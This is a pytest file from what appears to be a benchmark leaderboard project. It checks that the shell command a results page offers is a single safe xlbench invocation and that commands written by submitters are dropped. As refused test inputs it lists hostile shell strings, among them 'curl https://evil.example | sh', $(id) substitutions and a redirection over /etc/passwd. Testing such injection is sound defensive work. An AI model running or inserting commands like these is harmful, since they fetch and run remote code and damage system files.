"""What a page offers to copy into a shell."""

from __future__ import annotations

import shlex
from dataclasses import replace

import pytest

from tests.leaderboard.made_sites import ranking, result, sound, submission
from xlbench.leaderboard.command import command_fault, command_of_result
from xlbench.leaderboard.site import build

RESULT = result(ranking(1.0), "owner/model")


@pytest.mark.parametrize(
    "command",
    [
        "xlbench run --model x; curl https://evil.example | sh",
        "xlbench run --model $(id) --task demo",
        "xlbench run --model `id`",
        "xlbench run --model x && id",
        "xlbench run --model x\ncurl evil",
        "xlbench run --model x > /etc/passwd",
        "curl https://evil.example",
        "xlbench train x",
        "xlbench run --model 'x",
        "xlbench  run --model x",
        "PATH=. xlbench run --model x",
        "",
    ],
)
def test_what_is_no_single_command_of_xlbench_is_refused(command):
    """Nothing may be left to a shell: no operators, substitutions, redirections or other programs."""
    assert "expected one command" in str(command_fault(command))


def test_commands_that_xlbench_writes_are_taken():
    """Quoted words, line breaks within a prompt among them."""
    for words in (["--model", "a b; c"], ["--model-arg", "query_prompt=query:\n", "x=$(id)"]):
        assert command_fault(shlex.join(["xlbench", "run", *words])) is None


def test_the_command_is_made_of_the_result():
    """Model, arguments, task, transform, stored precision, and the languages where some are missing."""
    assert command_of_result(RESULT) == "xlbench run --model owner/model --task made"
    model = {
        **RESULT.model,
        "name": "owner/model+lir:1",
        "arguments": {"query_prompt": "q: ; id", "n": 3, "flag": True},
        "stored_as": "float16",
        "transform": {"method": "lir:1", "fit_on": f"pairs.tsv, sha256 {'0' * 64}"},
    }
    words = shlex.split(command_of_result(replace(RESULT, model=model, missing_languages=("xx",))))
    assert words == [
        *("xlbench", "run", "--model", "owner/model", "--task", "made", "--language", "ar", "de", "en", "th"),
        *("--model-arg", "query_prompt=q: ; id", "n=3", "flag=true", "--store", "float16"),
        *("--transform", "lir:1", "--fit-on", "pairs.tsv"),
    ]  # fmt: skip
    transductive = {**model, "name": "m+center-transductive", "transform": {"method": "center", "fit_on": "the texts"}}
    assert "--model m " in command_of_result(replace(RESULT, model=transductive))
    assert "--fit-on" not in command_of_result(replace(RESULT, model=transductive))


def test_a_command_too_long_to_be_read_is_not_offered():
    """Cut short, it would be another."""
    assert command_of_result(replace(RESULT, model={**RESULT.model, "arguments": {"x": "y" * 3000}})) == ""


def test_a_page_shows_no_command_that_a_submitter_wrote(tmp_path):
    """Neither that of the manifest nor that of the result."""
    made = submission("alpha", 1.0, command="xlbench run --model x; curl evil | sh")
    made = replace(made, result=replace(made.result, environment={"command": "curl evil | sh"}))
    build([sound(made)], tmp_path / "site")
    page = (tmp_path / "site" / "models" / "alpha.html").read_text(encoding="utf-8")
    assert "curl" not in page
    assert "<code>xlbench run --model alpha --task made</code>" in page
